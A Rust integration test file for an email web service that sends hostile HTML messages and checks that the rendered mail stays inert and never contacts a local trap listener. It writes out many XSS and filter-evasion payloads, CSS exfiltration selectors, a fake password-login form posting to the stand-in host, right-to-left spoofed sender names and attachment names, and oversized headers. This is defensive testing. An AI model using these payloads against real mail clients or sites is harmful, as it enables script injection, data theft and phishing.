//! Messages that want to run, to leave their frame, to call home or to break the page.

use std::net::SocketAddr;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};

use tokio::io::AsyncWriteExt;
use tokio::net::TcpListener;

use crate::browser::Browser;
use crate::messages::PLAIN;
use crate::service::Service;

/// A host that a message would like to reach, and how often it was reached.
async fn trap() -> (SocketAddr, Arc<AtomicUsize>) {
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let address = listener.local_addr().unwrap();
    let count = Arc::new(AtomicUsize::new(0));
    let counted = count.clone();
    tokio::spawn(async move {
        while let Ok((mut stream, _)) = listener.accept().await {
            counted.fetch_add(1, Ordering::SeqCst);
            let _ =
                stream.write_all(b"HTTP/1.1 204 No Content\r\ncontent-length: 0\r\nconnection: close\r\n\r\n").await;
        }
    });
    (address, count)
}

/// Every way we know to run, to load or to navigate; TRAP is the host to reach.
const BODY: &str = r##"<html><head><meta http-equiv="refresh" content="0;url=http://TRAP/refresh"><base href="http://TRAP/">
<link rel="stylesheet" href="http://TRAP/link.css"><link rel="preload" as="image" href="http://TRAP/preload.png">
<script>document.title="owned";top.location="http://TRAP/top"</script><script src="http://TRAP/s.js"></script>
<style>@import url("http://TRAP/import.css"); @font-face{font-family:x;src:url(http://TRAP/font.woff)} body{font-family:x;background:url(http://TRAP/body.png)}
input[value^="a"]{background:url(http://TRAP/leak-a)} a::after{content:url(http://TRAP/after.png)}</style>
<style></style><img src=x onerror="document.title='owned'"><!--</style><script>document.title="owned"</script>--></style></head>
<body onload="document.title='owned'" background="http://TRAP/background.png" style="margin:0;background-image:url('http://TRAP/style.png')">
<p onclick="document.title='owned'" style="position:fixed;inset:0;z-index:99999;background:url(http://TRAP/fixed.png)">over everything</p>
<img src="http://TRAP/pixel.gif" width=1 height=1><img srcset="http://TRAP/set.png 2x"><picture><source srcset="http://TRAP/source.png"><img src="http://TRAP/p.png"></picture>
<a id=l href="javascript:document.title='owned'">js</a><a href="data:text/html,<script>top.document.title='owned'</script>">data</a>
<a href="http://TRAP/ping" ping="http://TRAP/pinged" target="_top">out</a><area href="javascript:alert(1)">
<form action="http://TRAP/form" method=post><input name=a value=a autofocus onfocus="document.title='owned'"><button formaction="javascript:alert(1)">send</button></form>
<iframe src="http://TRAP/iframe" srcdoc="<script>top.document.title='owned'</script>"></iframe><object data="http://TRAP/object"></object><embed src="http://TRAP/embed">
<svg onload="document.title='owned'"><image href="http://TRAP/svg.png"/><script>document.title='owned'</script><use href="http://TRAP/u.svg#a"/></svg>
<math><maction actiontype="statusline#http://TRAP/m" xlink:href="javascript:alert(1)">m</maction></math>
<video src="http://TRAP/v.mp4" poster="http://TRAP/poster.png" autoplay></video><audio src="http://TRAP/a.mp3" autoplay></audio>
<table background="http://TRAP/table.png" width=99999><tr><td width=99999 height=99999>wide</td></tr></table>
<div style="width:100000px;height:50px;background:red;position:absolute;left:-50000px">x</div></body></html>"##;

fn message(subject: &str, trap: SocketAddr) -> Vec<u8> {
    let body = BODY.replace("TRAP", &trap.to_string());
    format!(
        "From: \"\u{202e}knab ruoY <script>document.title='owned'</script>\" <a@good.example>\r\nTo: b@example.org\r\n\
         Subject: {subject}\r\nDate: Sun, 22 Nov 2026 10:00:00 +0000\r\nMessage-ID: <\"><img src=x onerror=alert(1)>@good.example>\r\n\
         X-Odd: <svg onload=\"document.title='owned'\">\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n\
         --b\r\nContent-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n{}\r\n\
         --b\r\nContent-Type: application/octet-stream\r\nContent-Disposition: attachment; filename=\"\u{202e}fdp.<b>exe\"\r\n\r\nx\r\n--b--\r\n",
        body.replace('\n', "\r\n"),
    )
    .into_bytes()
}

/// Neither title nor place has changed, nothing sticks out, and nobody was called.
async fn assert_unharmed(browser: &Browser, at: &str, what: &str) {
    tokio::time::sleep(std::time::Duration::from_millis(300)).await;
    assert_eq!(browser.url().await, at, "{what}: the page went elsewhere");
    let title = browser.run("return document.title").await;
    assert!(title.as_str().unwrap().ends_with("Vaglio"), "{what}: something ran: {title}");
    let wide = browser.run("return document.documentElement.scrollWidth - document.documentElement.clientWidth").await;
    assert!(wide.as_i64().unwrap() <= 0, "{what}: {wide} pixels too wide");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_hostile_message_neither_runs_nor_leaves_its_frame_nor_calls_home() {
    let (service, browser) = (Service::start().await, Browser::start().await);
    let (trap, reached) = trap().await;
    let (to, path) = service.test().await;
    service.send_raw(&PLAIN, &to, &message("<script>document.title='owned'</script>\u{202e}gpj.exe", trap)).await;
    service.ready(&path).await;
    browser.open(&format!("{}/?lang=en", service.url)).await;
    for width in [390, 1280] {
        browser.width(width).await;
        for part in ["", "/message", "/message?dark=1"] {
            let at = format!("{}{path}{part}", service.url);
            browser.open(&at).await;
            browser.run("document.querySelectorAll('details').forEach((part) => (part.open = true))").await;
            assert_unharmed(&browser, &at, part).await;
            assert_eq!(reached.load(Ordering::SeqCst), 0, "{part}: the message called home");
        }
        browser.screenshot(&format!("hostile-message-{width}")).await;
    }
    // Even alone in a window, as nobody but an attacker would open it, the frame is inert.
    let at = format!("{}{path}/message/frame", service.url);
    browser.open(&at).await;
    tokio::time::sleep(std::time::Duration::from_millis(500)).await;
    assert_eq!(browser.url().await, at);
    assert_eq!(browser.run("return document.title").await, "-");
    assert_eq!(
        browser
            .run(
                "return document.querySelectorAll('script,iframe,form,object,embed,link,base,meta[http-equiv]').length"
            )
            .await,
        0
    );
    assert_eq!(reached.load(Ordering::SeqCst), 0, "the frame called home");
    // Asked for, remote images come: so the trap does count.
    browser.open(&format!("{}{path}/message?images=1", service.url)).await;
    tokio::time::sleep(std::time::Duration::from_millis(800)).await;
    assert!(reached.load(Ordering::SeqCst) > 0, "images were asked for and did not come");
}

/// Each way by itself, so that one that breaks another cannot hide it.
const BODIES: &[(&str, &str)] = &[
    (
        "script",
        "<script>document.title='owned';fetch('http://TRAP/')</script><scr<script>ipt>top.document.title='owned'</script>",
    ),
    (
        "handlers",
        "<img src=x onerror=\"document.title='owned'\"><body onload=\"top.location='http://TRAP/'\"><input autofocus onfocus=alert(1)><details open ontoggle=alert(1)>",
    ),
    (
        "javascript: URLs",
        "<a href=\"javascript:top.document.title='owned'\" style='display:block;height:900px'>x</a><a href=' &#106;avascript:alert(1)'>x</a><a href='java\tscript:alert(1)'>x</a>",
    ),
    (
        "data: URLs",
        "<a href=\"data:text/html,<script>top.document.title='owned'</script>\" style='display:block;height:900px'>x</a><img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>\"><iframe src='data:text/html,x'></iframe>",
    ),
    (
        "exfiltration by CSS",
        "<style>@import 'http://TRAP/i.css';@font-face{font-family:f;src:url(http://TRAP/f)}*{background:url(//TRAP/b);cursor:url(http://TRAP/c),auto;list-style-image:image-set('http://TRAP/l' 1x);content:url(http://TRAP/d)}a[href^=h]{background:url(http://TRAP/leak)}</style><li>x</li><a href=http://x.example>x</a>",
    ),
    (
        "meta refresh",
        "<meta http-equiv=refresh content='0;url=http://TRAP/'><meta http-equiv='set-cookie' content='lang=xx'>",
    ),
    (
        "base and links",
        "<base href=http://TRAP/><a href=rel style='display:block;height:900px'>x</a><link rel=stylesheet href=http://TRAP/a><link rel=dns-prefetch href=//TRAP><link rel=prefetch href=http://TRAP/p><link rel=icon href=http://TRAP/i>",
    ),
    (
        "forms",
        "<form action=http://TRAP/ method=post><input name=password><button style='width:100%;height:900px'>Log in</button></form><button form=keep formaction=http://TRAP/>x</button><isindex action=http://TRAP/>",
    ),
    (
        "huge tables",
        "<table width=99999 height=99999 border=1><tr><td width=99999 style='min-width:99999px'>wide</td></tr></table><div style='position:absolute;left:90000px;top:90000px'>far</div>",
    ),
    ("deep tables", "TABLES"),
    (
        "overlays",
        "<div style='position:fixed;inset:0;z-index:2147483647;background:red'>over</div><dialog open>modal</dialog><div popover=manual style='display:block;position:fixed;inset:0'>pop</div>",
    ),
    (
        "foreign elements",
        "<svg><a xlink:href='javascript:alert(1)'><text y=99>x</text></a><foreignObject><iframe srcdoc='<script>top.document.title=1</script>'></iframe></foreignObject><use href='http://TRAP/u.svg#a'/></svg><math><a xlink:href='javascript:alert(1)'>m</a></math>",
    ),
    (
        "plugins and frames",
        "<iframe src=http://TRAP/></iframe><object data=http://TRAP/></object><embed src=http://TRAP/><applet code=x></applet><frameset><frame src=http://TRAP/></frameset><portal src=http://TRAP/></portal>",
    ),
    (
        "media",
        "<video src=http://TRAP/v poster=http://TRAP/p autoplay></video><audio src=http://TRAP/a autoplay></audio><img srcset='http://TRAP/s 1x' lowsrc=http://TRAP/l dynsrc=http://TRAP/d><input type=image src=http://TRAP/i><body background=http://TRAP/b><picture><source srcset=http://TRAP/q><img></picture>",
    ),
];

/// What stands in fields of the header, where the page itself shows it.
const FIELDS: &[(&str, &str)] = &[
    (
        "markup everywhere",
        "Subject: </title><script>document.title='owned'</script>\r\nFrom: \"</bdi><img src=x onerror=alert(1)>\" <a@good.example>\r\nX-<img/src=x>: y",
    ),
    (
        "names that turn round",
        "Subject: \u{202e}gpj.exe\u{202c}\u{2066}\u{200f}\r\nFrom: \"\u{202e}moc.knab@ecivres\" <a@good.example>",
    ),
    ("a subject of a megabyte", "Subject: MEGABYTE\r\nFrom: a@good.example"),
    ("a name of a megabyte", "Subject: x\r\nFrom: \"MEGABYTE\" <a@good.example>"),
    ("combining marks", "Subject: Z\u{0351}ALGO\r\nFrom: a@good.example"),
];

fn one_body(body: &str, trap: SocketAddr) -> Vec<u8> {
    let body = body.replace("TRAP", &trap.to_string()).replace("TABLES", &"<table border=9><tr><td>".repeat(3000));
    format!(
        "From: a@good.example\r\nSubject: x\r\nMIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n<p>Dear reader</p>{body}\r\n"
    )
    .into_bytes()
}

fn one_head(fields: &str) -> Vec<u8> {
    let fields = fields
        .replace("MEGABYTE", &"x".repeat(1_000_000))
        .replace("Z\u{0351}", &format!("Z{}", "\u{0351}\u{036b}".repeat(500)));
    format!("{fields}\r\nMIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nHi\r\n").into_bytes()
}

#[tokio::test(flavor = "multi_thread")]
async fn each_way_of_attack_leads_nowhere() {
    let (service, browser) = (Service::start().await, Browser::start().await);
    let (trap, reached) = trap().await;
    let bodies = BODIES.iter().map(|(what, body)| (*what, one_body(body, trap)));
    let heads = FIELDS.iter().map(|(what, fields)| (*what, one_head(fields)));
    for (what, message) in bodies.chain(heads) {
        let (to, path) = service.test().await;
        service.send_raw(&PLAIN, &to, &message).await;
        service.ready(&path).await;
        let shared = service.shared(&path).await;
        let octets = service.wire(&path).await.1;
        assert!(octets < 100_000, "{what}: {octets} octets over the wire");
        for (width, part) in
            [(390, path.clone()), (1280, format!("{path}/message")), (390, format!("{path}/message")), (390, shared)]
        {
            browser.width(width).await;
            let at = format!("{}{part}", service.url);
            browser.open(&at).await;
            browser.run("document.querySelectorAll('details').forEach((part) => (part.open = true))").await;
            assert_unharmed(&browser, &at, what).await;
            // Whoever clicks into the frame stays here as well.
            if browser.run("return Boolean(document.querySelector('iframe'))").await == true {
                browser.run("document.querySelector('iframe').scrollIntoView({block: 'center'})").await;
                browser.click("iframe").await;
                assert_unharmed(&browser, &at, what).await;
                browser.screenshot(&format!("hostile-{}-{width}", what.replace([' ', ':'], "-"))).await;
            }
            assert_eq!(reached.load(Ordering::SeqCst), 0, "{what}: the message called home from {part}");
        }
    }
}
